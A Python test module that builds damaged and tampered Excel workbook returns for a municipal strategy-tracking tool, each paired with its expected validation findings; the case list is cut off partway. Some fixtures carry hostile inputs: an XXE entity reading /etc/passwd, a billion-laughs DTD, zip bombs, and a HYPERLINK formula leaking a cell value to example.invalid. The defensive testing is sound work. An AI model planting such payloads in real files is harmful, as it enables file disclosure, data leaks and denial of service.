"""A corpus of bad returns: every kind of damaged, tampered or odd return we know of, each built from a
real generated workbook by code (no binaries in the repository), each with the findings it must give.

    CASES: list[Case]       name -> builder -> expected finding codes (exact, with counts)
    Corpus(root)            a Keuruu project with one open round (tests/returns_kit.Kit) to build in

A check case's builder returns one file, run through `seuranta check --json FILE`; a sync case's builder
returns a folder, run through `seuranta sync --json FOLDER` in a project of its own (the ledger changes).
The exit code follows from the expected codes: 1 when any of them is an error, else 0.

Decisions recorded here (and in docs/reliability.md):
- A grade is whatever `Scale.parse` accepts: the value itself, with spaces around it, as a number
  stored as text ("4"), as a float equal to it (4.0), or as the first word followed by words, as the
  dropdown's labels are ("4 Toteutusvaiheessa…", "4= …"). A value glued to more characters ("4.5",
  "4-5", "4)", "4,5") is invalid-grade; a date or a boolean is never a grade. Words after the value that hold
  another number or another value of the scale ("4 tai 5", "kyllä / ei") make it invalid-grade too.
- Control characters XML cannot hold, escaped as Excel does (_x0001_) or even raw in the sheet XML
  (not well-formed: written by some non-Excel tools), are removed and reported (illegal-characters).
- Sorting, hiding or filtering rows or hiding columns changes nothing we read: no finding
  (protection-removed when the sheet protection had to go for it). A sheet added with anything in
  it is content-outside-inputs (issue 12: nothing typed is ignored).
- Words after a grade that are not its label ("4 Toteutusvaiheessa…" on a plain 1-5 scale, "3 mutta
  hanke on viivästynyt") give the grade and go into the comment: text-after-grade.
"""
from __future__ import annotations

import datetime as dt
import io
import json
import shutil
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

TESTS = Path(__file__).resolve().parents[1]

from seuranta_xl.core.findings import CATALOGUE, Severity
from seuranta_xl.core.identity import META_SHEET
from tests.builders import keuruu_rows
from tests.returns_kit import ROUND, Kit, paste_identity_of, set_ready, set_saved_time

HKP = "Hallinto"                 # Hallinto- ja konsernipalvelut: 54 actions
N_HKP = 54
N_KASVU = 47                     # Kasvu ja hyvinvointi
OTHER_DEPTS = 2                  # departments without a return when only HKP returns
N_HKP_LOW = 23                   # Hallinto rows graded 2 or lower in the Keuruu seed
N_HKP_COMMENTED = sum(1 for r in keuruu_rows() if r["department"].startswith(HKP) and r["comment"])  # with a comment


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Corpus], Path]
    expected: dict[str, int]
    mode: str = "check"          # check: one file; sync: a folder in a project of its own
    fresh: bool = False          # needs a project of its own (sync cases, other config)
    config: dict = field(default_factory=dict)
    sync_args: tuple[str, ...] = ()
    libreoffice: bool = False
    note: str = ""

    @property
    def exit_code(self) -> int:
        return 1 if any(CATALOGUE[c].severity is Severity.ERROR for c in self.expected) else 0


class Corpus:
    """Builds case files in one Kit (check cases share it: check never writes the ledger)."""

    def __init__(self, root: Path, **config):
        self.root = root
        self.kit = Kit(root, **config)
        self.out = root / "corpus"
        self.out.mkdir(exist_ok=True)
        self.case = "case"

    # ------------------------------------------------------------------ helpers
    def path(self, suffix: str = ".xlsx", name: str | None = None) -> Path:
        return self.out / (name or f"{self.case}{suffix}")

    def fill(self, edit=None, *, dept: str = HKP, name: str | None = None, seed: bool = True,
             **ready) -> Path:
        made = self.kit.fill(dept, name=name or f"{self.case}.xlsx", edit=edit, seed_values=seed, **ready)
        dst = self.out / made.name
        shutil.move(made, dst)
        return dst

    def rows(self, ws, meta, cols) -> list[int]:
        return self.kit.data_rows(ws, meta, cols)

    def first(self, ws, meta, cols) -> int:
        return self.rows(ws, meta, cols)[0]

    def set_first(self, key: str, value, **fill_kw) -> Path:
        def edit(wb, ws, meta, cols):
            ws[f"{cols[key]}{self.first(ws, meta, cols)}"] = value
        return self.fill(edit, **fill_kw)

    def comment_via_xml(self, replacement: bytes) -> Path:
        """A comment whose XML we write ourselves (openpyxl refuses control characters)."""
        marker = "KOMMENTTI_MERKKI_7f3a"
        src = self.set_first("comment", marker, name=f"{self.case}.src.xlsx")
        dst = self.path()
        patch_zip(src, dst, lambda name, data: data.replace(marker.encode(), replacement))
        src.unlink()
        return dst


def patch_zip(src: Path, dst: Path, change: Callable[[str, bytes], bytes | None],
              add: dict[str, bytes] | None = None) -> None:
    """Copy a package member by member; ``change`` may rewrite a member (or drop it with None)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = change(info.filename, zin.read(info.filename))
            if data is not None:
                zout.writestr(info, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)


def _with_dtd(data: bytes, dtd: bytes) -> bytes:
    body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
    return b'<?xml version="1.0" encoding="UTF-8"?>' + dtd + body


BILLION_LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10)) + b"]>")
XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


# ====================================================================== builders
# --- grades --------------------------------------------------------------------
def grade(value):
    return lambda c: c.set_first("grade", value)


def b_grade_text_cell(text: str):
    """A grade stored as a text cell (a number typed with a leading apostrophe, or pasted)."""
    def build(c: Corpus) -> Path:
        def edit(wb, ws, meta, cols):
            cell = ws[f"{cols['grade']}{c.first(ws, meta, cols)}"]
            cell.value = text
            cell.data_type = "s"
        return c.fill(edit)
    return build


def b_grade_date(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        cell = ws[f"{cols['grade']}{c.first(ws, meta, cols)}"]
        cell.value = dt.datetime(2023, 4, 1)
        cell.number_format = "d.m.yyyy"
    return c.fill(edit)


def b_grade_formula(c: Corpus) -> Path:
    return c.set_first("grade", "=2+2")


def b_all_grades_missing(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        for r in c.rows(ws, meta, cols):
            ws[f"{cols['grade']}{r}"] = None
    return c.fill(edit)


# --- comments ------------------------------------------------------------------
ODD_TEXT = ("Rivi 1\nRivi 2\r\nRivi 3\tsarkain  kaksi välilyöntiä ”lainaus” 'heittomerkki' € ✓ 😀👍🏽 "
            "עברית مرحبا \u200f RTL \u202e käänteinen \u202c loppu ")


def b_comment_odd(c: Corpus) -> Path:
    return c.set_first("comment", ODD_TEXT)


def b_comment_leading_signs(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        for r, text in zip(c.rows(ws, meta, cols), ("+358 40 123", "-5 % budjetista", "@kaupunki", "=1+1 tekstinä")):
            cell = ws[f"{cols['comment']}{r}"]
            cell.value, cell.data_type, cell.quotePrefix = text, "s", True
    return c.fill(edit)


def b_comment_hyperlink_formula(c: Corpus) -> Path:
    return c.set_first("comment", '=HYPERLINK("http://example.invalid/?q="&A7,"klikkaa")')


def b_comment_number(c: Corpus) -> Path:
    return c.set_first("comment", 12345.5)


def b_comment_at_limit(c: Corpus) -> Path:
    return c.set_first("comment", "ä" * 2000)


def b_comment_too_long(c: Corpus) -> Path:
    return c.set_first("comment", "ä" * 2001)


def b_comment_required_missing(c: Corpus) -> Path:
    """Comments cleared on every row graded 2 or lower, in a project whose rule requires them there."""
    def edit(wb, ws, meta, cols):
        for r in c.rows(ws, meta, cols):
            if ws[f"{cols['grade']}{r}"].value <= 2:
                ws[f"{cols['comment']}{r}"] = None
    return c.fill(edit)


def b_comment_spaces_only(c: Corpus) -> Path:
    return c.set_first("comment", "   \n\t ")


# --- rows and columns ----------------------------------------------------------
def b_rows_sorted(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        rows = c.rows(ws, meta, cols)
        values = [[cell.value for cell in ws[r]] for r in rows]
        for r, vals in zip(rows, sorted(values, key=lambda v: str(v[3]))):
            for cell, val in zip(ws[r], vals):
                cell.value = val
    return c.fill(edit)


def b_rows_hidden(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        for r in c.rows(ws, meta, cols)[::3]:
            ws.row_dimensions[r].hidden = True
    return c.fill(edit)


def b_rows_filtered(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        rows = c.rows(ws, meta, cols)
        ws.auto_filter.ref = f"A{rows[0] - 1}:{cols['comment']}{rows[-1]}"
        ws.auto_filter.add_filter_column(col_id=5, vals=["5"])
        for r in rows:
            if ws[f"{cols['grade']}{r}"].value != 5:
                ws.row_dimensions[r].hidden = True
    return c.fill(edit)


def b_column_inserted(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws.protection.sheet = False
        ws.insert_cols(3)
    return c.fill(edit)


def b_column_hidden(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws.protection.sheet = False
        ws.column_dimensions["B"].hidden = True
        ws.column_dimensions["C"].hidden = True
    return c.fill(edit)


def b_header_deleted(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws.protection.sheet = False
        ws.delete_rows(int(meta["header_row"]))
    return c.fill(edit)


def b_locked_text_changed(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        r = c.first(ws, meta, cols)
        ws[f"{cols['action']}{r}"] = ws[f"{cols['action']}{r}"].value + " (muokattu)"
    return c.fill(edit)


def b_row_deleted(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws.protection.sheet = False
        ws.delete_rows(c.first(ws, meta, cols))
    return c.fill(edit)


def b_zero_rows(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws.protection.sheet = False
        rows = c.rows(ws, meta, cols)
        ws.delete_rows(rows[0], len(rows))
    return c.fill(edit)


def b_row_added(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws.protection.sheet = False
        r = ws.max_row + 2
        ws[f"{cols['action']}{r}"] = "Uusi toimenpide, jota strategiassa ei ole"
        ws[f"{cols['grade']}{r}"] = 5
    return c.fill(edit)


def b_row_duplicated(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws.protection.sheet = False
        first = c.first(ws, meta, cols)
        r = ws.max_row + 1
        for cell in ws[first]:
            ws.cell(r, cell.column, cell.value)
        ws[f"{cols['grade']}{r}"] = 1
    return c.fill(edit)


def b_header_renamed(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws[f"{cols['comment']}{meta['header_row']}"] = "Kommentit"
    return c.fill(edit)


def b_header_renamed_and_moved(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws.protection.sheet = False
        ws[f"{cols['comment']}{meta['header_row']}"] = "Kommentit"
        ws.insert_cols(2)
    return c.fill(edit)


def b_protection_removed(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws.protection.sheet = False
    return c.fill(edit)


# --- sheets ---------------------------------------------------------------------
def b_sheet_renamed(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        ws.title = "Meidän arviot"
    return c.fill(edit)


def b_sheet_added(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        extra = wb.create_sheet("Muistiinpanot")
        extra["A1"] = "Omia muistiinpanoja"
    return c.fill(edit)


def b_instructions_deleted(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        del wb[[n for n in wb.sheetnames if n not in (ws.title, META_SHEET, "_listat")][0]]
    return c.fill(edit)


def b_data_sheet_deleted(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        wb.create_sheet("Tyhjä")
        del wb[ws.title]
    return c.fill(edit)


def b_meta_sheet_deleted(c: Corpus) -> Path:
    def edit(wb, ws, meta, cols):
        del wb[META_SHEET]
    return c.fill(edit)


# --- identity and tampering -------------------------------------------------------
def b_unknown_workbook(c: Corpus) -> Path:
    path = c.path()
    wb = openpyxl.Workbook()
    wb.active.append(["ID", "Toimenpide", "Arvio", "Kommentti"])
    wb.active.append(["T001", "Jotain", 4, "ok"])
    wb.save(path)
    return path


def _set_meta(wb, key: str, value: str) -> None:
    for row in wb[META_SHEET].iter_rows(max_row=19):
        if row[0].value == key:
            row[1].value = value


def b_department_changed(c: Corpus) -> Path:
    return c.fill(lambda wb, ws, meta, cols: _set_meta(wb, "department", "Kasvu ja hyvinvointi"))


def b_round_changed(c: Corpus) -> Path:
    return c.fill(lambda wb, ws, meta, cols: _set_meta(wb, "round_id", "2024-kevat"))


def b_signature_stripped(c: Corpus) -> Path:
    return c.fill(lambda wb, ws, meta, cols: _set_meta(wb, "signature", ""))


def b_row_hash_changed(c: Corpus) -> Path:
    """The meta sheet's row hash rewritten to match an edited locked text, signature left alone."""
    def edit(wb, ws, meta, cols):
        sheet = wb[META_SHEET]
        sheet.cell(20, 2).value = "0" * 16
    return c.fill(edit)


def b_meta_from_other_department(c: Corpus) -> Path:
    """The identity sheet of Kasvu ja hyvinvointi's workbook pasted over Hallinto's."""
    return c.fill(paste_identity_of(c.kit.source("Kasvu")))


def b_meta_pasted_over(c: Corpus) -> Path:
    """Kasvu's identity cells pasted over Hallinto's, leaving Hallinto's extra row ids below them."""
    other = openpyxl.load_workbook(c.kit.source("Kasvu"))[META_SHEET]

    def edit(wb, ws, meta, cols):
        mine = wb[META_SHEET]
        for row in other.iter_rows():
            for cell in row:
                mine.cell(cell.row, cell.column).value = cell.value
    return c.fill(edit)


def b_other_project(c: Corpus) -> Path:
    other = Kit(c.root / "toinen")
    made = other.fill(HKP, name=f"{c.case}.xlsx")
    dst = c.path()
    shutil.move(made, dst)
    return dst


def b_formula_in_meta(c: Corpus) -> Path:
    return c.fill(lambda wb, ws, meta, cols: _set_meta(wb, "header_row", "=1+5"))


def b_meta_columns_garbage(c: Corpus) -> Path:
    return c.fill(lambda wb, ws, meta, cols: _set_meta(wb, "columns", "{ei json"))


# --- control characters written into the XML ourselves -------------------------------
def b_ctrl_escaped(c: Corpus) -> Path:
    return c.comment_via_xml(b"alku_x0001_keski_x001F__x000B_loppu_xFFFF_")


def b_ctrl_raw(c: Corpus) -> Path:
    return c.comment_via_xml(b"alku\x01keski\x1f\x0bloppu")


def b_ctrl_nul_raw(c: Corpus) -> Path:
    return c.comment_via_xml(b"nolla\x00merkki")


def b_ctrl_fffe_raw(c: Corpus) -> Path:
    return c.comment_via_xml("a\ufffeb\uffffc".encode())


def b_bad_utf8(c: Corpus) -> Path:
    return c.comment_via_xml(b"rikki \xff\xfe utf8")


# --- other programs and formats -------------------------------------------------------
def _lo_cells(c: Corpus) -> tuple[Path, dict]:
    wb, ws, meta, cols = c.kit.workbook(HKP)
    cells = {}
    for r in c.rows(ws, meta, cols):
        seed = c.kit.seed[ws[f"{cols['action']}{r}"].value]
        cells[f"{cols['grade']}{r}"] = int(seed["grade"])
        if seed["comment"]:
            cells[f"{cols['comment']}{r}"] = seed["comment"]
    first = c.first(ws, meta, cols)
    cells[f"{cols['comment']}{first}"] = ODD_TEXT.replace("\r\n", "\n")
    ready = json.loads(meta["ready"])                  # marked ready, as a finished return is
    cells[ready["mark"]], cells[ready["approver"]] = "Kyllä", "Päivi Mäkelä"
    return c.kit.source(HKP), {"sheet": meta["data_sheet"], "cells": cells}


def b_libreoffice_saved(c: Corpus) -> Path:
    from tests.lo_driver import fill
    src, job = _lo_cells(c)
    dst = c.path()
    [res] = fill([{"src": str(src), "dst": str(dst), **job}])
    assert res.get("ok"), res
    return dst


def _convert(c: Corpus, target: str, suffix: str) -> Path:
    from tests.libreoffice import convert
    filled = c.fill(name=f"{c.case}-lähde.xlsx")
    tmp = c.root / f"conv-{c.case}"
    made = [p for p in convert(filled, tmp, target) if p.suffix == suffix]
    dst = c.path(suffix)
    shutil.move(made[0], dst)
    filled.unlink()
    return dst


def b_xls(c: Corpus) -> Path:
    return _convert(c, "xls", ".xls")


def b_ods(c: Corpus) -> Path:
    return _convert(c, "ods", ".ods")


def b_csv(c: Corpus) -> Path:
    return _convert(c, "csv", ".csv")


def b_ods_named_xlsx(c: Corpus) -> Path:
    ods = _convert(c, "ods", ".ods")
    dst = c.path(".xlsx")
    ods.rename(dst)
    return dst


def b_xlsm(c: Corpus) -> Path:
    src = c.fill(name=f"{c.case}.src.xlsx")
    dst = c.path(".xlsm")
    patch_zip(src, dst, lambda n, d: d, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})
    src.unlink()
    return dst


def b_html_named_xls(c: Corpus) -> Path:
    path = c.path(".xls")
    path.write_text("<html><body><table><tr><td>T001</td><td>4</td></tr></table></body></html>", "utf-8")
    return path


# --- damaged packages ---------------------------------------------------------------
def b_truncated(c: Corpus) -> Path:
    src = c.fill()
    data = src.read_bytes()
    src.write_bytes(data[: len(data) * 2 // 3])
    return src


def b_garbage(c: Corpus) -> Path:
    path = c.path()
    path.write_bytes(bytes(range(256)) * 40)
    return path


def b_zip_not_package(c: Corpus) -> Path:
    path = c.path()
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("palautus.txt", "ei työkirja")
    return path


def b_sheet_xml_broken(c: Corpus) -> Path:
    src = c.fill(name=f"{c.case}.src.xlsx")
    dst = c.path()
    patch_zip(src, dst, lambda n, d: d[: len(d) // 2] if n == "xl/worksheets/sheet1.xml" else d)
    src.unlink()
    return dst


def b_crc_damaged(c: Corpus) -> Path:
    """A byte flipped inside a stored member: the zip's CRC no longer matches."""
    src = c.fill(name=f"{c.case}.src.xlsx")
    dst = c.path()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            info.compress_type = zipfile.ZIP_STORED
            zout.writestr(info, data)
    src.unlink()
    data = bytearray(dst.read_bytes())
    i = data.find(b"<sheetData")
    data[i + 20] ^= 0x01
    dst.write_bytes(bytes(data))
    return dst


def b_empty(c: Corpus) -> Path:
    path = c.path()
    path.write_bytes(b"")
    return path


def b_sparse_100mb(c: Corpus) -> Path:
    path = c.path()
    with open(path, "wb") as fh:
        fh.truncate(100 * 1024 * 1024)
    return path


def b_zip_bomb(c: Corpus) -> Path:
    path = c.path()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        with zf.open("xl/worksheets/sheet1.xml", "w") as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(300):
                member.write(chunk)
    return path


def b_zip_total_bomb(c: Corpus) -> Path:
    """Many members each just under the per-member ratio check: the total bound catches them."""
    path = c.path()
    chunk = b"<x/>" * 249_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/workbook.xml", "<workbook/>")
        for i in range(230):
            zf.writestr(f"xl/media/image{i}.xml", chunk)
    return path


def b_zip_many_members(c: Corpus) -> Path:
    path = c.path()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("xl/workbook.xml", "<workbook/>")
        for i in range(2_100):
            zf.writestr(f"xl/media/{i}.bin", b"")
    return path


def _entity(member: str, dtd: bytes):
    def build(c: Corpus) -> Path:
        src = c.fill(name=f"{c.case}.src.xlsx")
        dst = c.path()
        patch_zip(src, dst, lambda n, d: _with_dtd(d, dtd) if n == member else d)
        src.unlink()
        return dst
    return build


def _shared_strings(reference: bool):
    """The generated workbook (XlsxWriter writes shared strings; openpyxl writes inline ones) with a
    billion-laughs DTD in xl/sharedStrings.xml, a part only calamine reads."""
    def build(c: Corpus) -> Path:
        def change(name: str, data: bytes) -> bytes:
            if name != "xl/sharedStrings.xml":
                return data
            data = _with_dtd(data, BILLION_LAUGHS)
            if reference:
                i = data.find(b"<t>") + 3
                data = data[:i] + b"&lol9;" + data[i:]
            return data
        dst = c.path()
        patch_zip(c.kit.source(HKP), dst, change)
        return dst
    return build


def b_encrypted(c: Corpus) -> Path:
    from msoffcrypto.format.ooxml import OOXMLFile
    src = c.fill(name=f"{c.case}.src.xlsx")
    out = io.BytesIO()
    with open(src, "rb") as fh:
        OOXMLFile(fh).encrypt("salasana", out)
    dst = c.path()
    dst.write_bytes(out.getvalue())
    src.unlink()
    return dst


def b_odd_name(c: Corpus) -> Path:
    return c.fill(name="2023-syys Hallinto ÅÄÖ #1 (kopio) [v2] ' & ; 😀 —.xlsx")


def b_excel_lock_file(c: Corpus) -> Path:
    path = c.path(name="~$2023-syys_Hallinto.xlsx")
    path.write_bytes(b"\x0bKoordinaattori" + b"\0" * 150)
    return path


# --- merges (sync cases: a folder in a project of their own) ---------------------------------
def s_only_hkp(c: Corpus) -> Path:
    c.kit.fill(HKP)
    return c.kit.returns


def s_wrong_round(c: Corpus) -> Path:
    from seuranta_xl.store.rounds import new_round
    new_round(c.kit.proj, "2024-kevat")
    c.kit.fill(HKP)
    return c.kit.returns


def _first_grade(c: Corpus, value):
    def edit(wb, ws, meta, cols):
        ws[f"{cols['grade']}{c.first(ws, meta, cols)}"] = value
    return edit


def s_duplicate_and_stale(c: Corpus) -> Path:
    newer = c.kit.fill(HKP, name="uusi.xlsx", edit=_first_grade(c, 5))
    set_saved_time(newer, dt.datetime(2023, 10, 2, 12, 0))
    older = c.kit.fill(HKP, name="vanha.xlsx", edit=_first_grade(c, 1))
    set_saved_time(older, dt.datetime(2023, 9, 30, 8, 0))
    return c.kit.returns


def s_stale(c: Corpus) -> Path:
    """The newer version is synced first; the older arrives at the next sync."""
    from seuranta_xl.returns.sync import sync_folder
    newer = c.kit.fill(HKP, name="uusi.xlsx", edit=_first_grade(c, 5))
    set_saved_time(newer, dt.datetime(2023, 10, 2, 12, 0))
    sync_folder(c.kit.proj, c.kit.returns)
    older = c.kit.fill(HKP, name="vanha.xlsx", edit=_first_grade(c, 1))
    set_saved_time(older, dt.datetime(2023, 9, 30, 8, 0))
    return c.kit.returns


def s_value_cleared(c: Corpus) -> Path:
    first = c.kit.fill(HKP, name="a_eka.xlsx")
    set_saved_time(first, dt.datetime(2023, 9, 1))

    def clear(wb, ws, meta, cols):
        r = c.first(ws, meta, cols)
        ws[f"{cols['grade']}{r}"] = None
        ws[f"{cols['comment']}{r}"] = None
    second = c.kit.fill(HKP, name="b_toka.xlsx", edit=clear)
    set_saved_time(second, dt.datetime(2023, 9, 20))
    return c.kit.returns


def s_rows_not_merged(c: Corpus) -> Path:
    c.kit.fill(HKP, edit=_first_grade(c, 9))
    return c.kit.returns


def s_all_three_and_junk(c: Corpus) -> Path:
    for dept in (HKP, "Kasvu", "Elinvoima"):
        c.kit.fill(dept)
    (c.kit.returns / "saate.txt").write_text("Liitteenä palautus", "utf-8")
    (c.kit.returns / "~$2023-syys_Kasvu ja hyvinvointi.xlsx").write_bytes(b"\0" * 165)
    (c.kit.returns / "rikki.xlsx").write_bytes(b"PK\x03\x04 ei oikeasti")
    return c.kit.returns


def s_empty_folder(c: Corpus) -> Path:
    return c.kit.returns


# ---------------------------------------------------------------------- the round's life (issue 13)
def s_late_return(c: Corpus) -> Path:
    """A return that arrives after the round was closed: recorded as late, nothing merged."""
    from seuranta_xl.store.rounds import set_round_closed
    c.kit.fill(HKP)
    set_round_closed(c.kit.proj, ROUND, closed=True)
    return c.kit.returns


def s_outdated_workbook(c: Corpus) -> Path:
    """The strategy is updated (one of HKP's action texts reworded) after the workbooks were sent."""
    from seuranta_xl.strategy.update import record_update
    c.kit.fill(HKP)
    with c.kit.project.ledger() as ledger:
        old_id, old = ledger.strategy()
        new = old.model_copy(deep=True)
        action = next(r.action for r in new.rows() if r.action.department.startswith(HKP))
        action.text += " (päivitetty)"
        new_id = ledger.add_strategy(new, source_file="muokattu.xlsx", source_hash="1" * 64, layout="test")
        record_update(c.kit.proj, ledger, (old_id, old), new_id, new, "fi")
    return c.kit.returns


def s_carried_comment(c: Corpus) -> Path:
    """The next round starts from the comments (--carry-comments); HKP grades everything, edits no comment."""
    from seuranta_xl.returns.sync import sync_folder
    from seuranta_xl.store.rounds import new_round, set_round_closed
    from seuranta_xl.workbook.generate import generate_round
    first = c.kit.fill(HKP)
    sync_folder(c.kit.proj, c.kit.returns, ROUND)
    set_round_closed(c.kit.proj, ROUND, closed=True)
    first.unlink()
    new_round(c.kit.proj, "2024-kevat", carry_comments=True)
    [src] = [p for p, _ in generate_round(c.kit.proj, round_id="2024-kevat").files if HKP in p.name]
    wb = openpyxl.load_workbook(src)
    meta = {r[0].value: r[1].value for r in wb[META_SHEET].iter_rows(max_row=19) if r[0].value}
    cols, ws = json.loads(meta["columns"]), wb[meta["data_sheet"]]
    for r in c.kit.data_rows(ws, meta, cols):
        ws[f"{cols['grade']}{r}"] = 3
    set_ready(ws, meta, "Kyllä", "Hyväksyjä")       # marked ready: an untouched carried comment is missing
    wb.save(c.kit.returns / src.name)
    return c.kit.returns


# ---------------------------------------------------------------------- the ready mark
def _meta_edit(change):
    def build(c: Corpus) -> Path:
        def edit(wb, ws, meta, cols):
            ms = wb[META_SHEET]
            for row in ms.iter_rows(max_row=19):
                if row[0].value == "ready":
                    change(row)
        return c.fill(edit)
    return build


def _repoint(row) -> None:
    cells = json.loads(row[1].value)
    row[1].value = json.dumps({"mark": "A1", "approver": cells["approver"]}, separators=(",", ":"))


def _remove(row) -> None:
    row[0].value = row[1].value = None


b_ready_repointed = _meta_edit(_repoint)
b_ready_key_removed = _meta_edit(_remove)


# ====================================================================== the table
# ------------------------------------------------------------------ a round's inputs as data (issue 16)
def _inputs_config() -> dict:
    from tests.inputs_kit import ALL_KINDS
    return {"inputs": {"mittarit": ALL_KINDS}, "round_inputs": "mittarit"}


def _filled_inputs(c: Corpus, key: str | None = None, value=None) -> Path:
    """Every further input of the HKP rows filled with a good value; on the first row ``key`` is ``value``."""
    def edit(wb, ws, meta, cols):
        for i, r in enumerate(c.rows(ws, meta, cols)):
            ws[f"{cols['toteutunut']}{r}"] = round(10 + i * 0.5, 1)
            ws[f"{cols['valmis']}{r}"] = dt.date(2025, 6, 1)
            ws[f"{cols['tila']}{r}"] = "aikataulussa"
            ws[f"{cols['riskit']}{r}"] = f"riski {i}"
        if key is not None:
            ws[f"{cols[key]}{c.first(ws, meta, cols)}"] = value
    return c.fill(edit)


def input_value(key: str, value):
    return lambda c: _filled_inputs(c, key, value)


def b_inputs_changed(c: Corpus) -> Path:
    """A workbook signed with the project's secret for grade + comment, returned in the round that asks more:
    the signature holds, the input set is not the round's."""
    from seuranta_xl.core.model import Round
    from seuranta_xl.store.project import Project
    from seuranta_xl.workbook.writer import WorkbookSpec, write_workbook
    project = Project(c.kit.proj)
    config = project.load_config()
    with project.ledger() as ledger:
        rnd = ledger.round(ROUND)
        strategy = ledger.strategy(rnd.strategy_id)[1]
    dept = next(d for d in strategy.departments() if d.startswith(HKP))
    path = c.path()
    write_workbook(path, WorkbookSpec(config, Round(**{**rnd.model_dump(), "inputs": None}), dept,
                                      strategy.rows_for(dept), strategy.has_indicators, None))
    return path



E = {}  # readability: an empty expectation means "no findings at all"
MISSING = {"missing-return": OTHER_DEPTS}

CASES: list[Case] = [
    # grades
    Case("clean", lambda c: c.fill(), E),
    Case("grade-missing", grade(None), {"missing-grade": 1, "ready-incomplete": 1}, note="marked ready"),
    Case("grade-all-missing", b_all_grades_missing, {"missing-grade": N_HKP, "ready-incomplete": 1}),
    Case("grade-missing-in-a-draft", lambda c: c.set_first("grade", None, ready="Ei"),
         {"missing-grade": 1, "draft-return": 1}, note="a draft may lack inputs: no error"),
    Case("grade-off-scale-7", grade(7), {"invalid-grade": 1}),
    Case("grade-zero", grade(0), {"invalid-grade": 1}),
    Case("grade-negative", grade(-4), {"invalid-grade": 1}),
    Case("grade-word-nelja", grade("neljä"), {"invalid-grade": 1}),
    Case("grade-trailing-space", b_grade_text_cell("4 "), E, note="spaces around a value are ignored"),
    Case("grade-float-4.0", grade(4.0), E, note="a float equal to the value"),
    Case("grade-fraction-4.5", grade(4.5), {"invalid-grade": 1}),
    Case("grade-number-as-text", b_grade_text_cell("4"), E, note="a number stored as text"),
    Case("grade-with-label-words", b_grade_text_cell("4 Toteutusvaiheessa…"), {"text-after-grade": 1},
         note="words after the value that are not its label (this 1-5 scale has none): kept in the comment"),
    Case("grade-text-4.5", b_grade_text_cell("4.5"), {"invalid-grade": 1},
         note="another number after the value: ambiguous"),
    Case("grade-text-range", b_grade_text_cell("4-5"), {"invalid-grade": 1}),
    Case("grade-text-4-tai-5", b_grade_text_cell("4 tai 5"), {"invalid-grade": 1},
         note="two values are no value"),
    Case("grade-text-paren", b_grade_text_cell("4)"), {"invalid-grade": 1}),
    Case("grade-tuusula-equals", b_grade_text_cell("4= Toteutusvaiheessa"), {"text-after-grade": 1}),
    Case("grade-decimal-comma", b_grade_text_cell("4,5"), {"invalid-grade": 1}),
    Case("grade-date", b_grade_date, {"invalid-grade": 1}),
    Case("grade-boolean", grade(True), {"invalid-grade": 1}),
    Case("grade-formula", b_grade_formula, {"formula-in-input": 1}),
    # comments
    Case("comment-odd-text", b_comment_odd, E, note="line breaks, tabs, emoji, RTL marks stay as typed"),
    Case("comment-leading-signs", b_comment_leading_signs, E),
    Case("comment-hyperlink-formula", b_comment_hyperlink_formula, {"formula-in-input": 1}),
    Case("comment-number", b_comment_number, E),
    Case("comment-at-limit", b_comment_at_limit, E),
    Case("comment-too-long", b_comment_too_long, {"comment-too-long": 1}),
    Case("comment-spaces-only", b_comment_spaces_only, E),
    Case("comment-ctrl-escaped", b_ctrl_escaped, {"illegal-characters": 1}),
    Case("comment-ctrl-raw-in-xml", b_ctrl_raw, {"illegal-characters": 1}),
    Case("comment-nul-raw-in-xml", b_ctrl_nul_raw, {"illegal-characters": 1}),
    Case("comment-fffe-raw-in-xml", b_ctrl_fffe_raw, {"illegal-characters": 1}),
    Case("comment-bad-utf8", b_bad_utf8, {"corrupt-file": 1}),
    Case("comment-required-missing", b_comment_required_missing, {"missing-comment": N_HKP_LOW,
                                                                   "ready-incomplete": 1}, fresh=True,
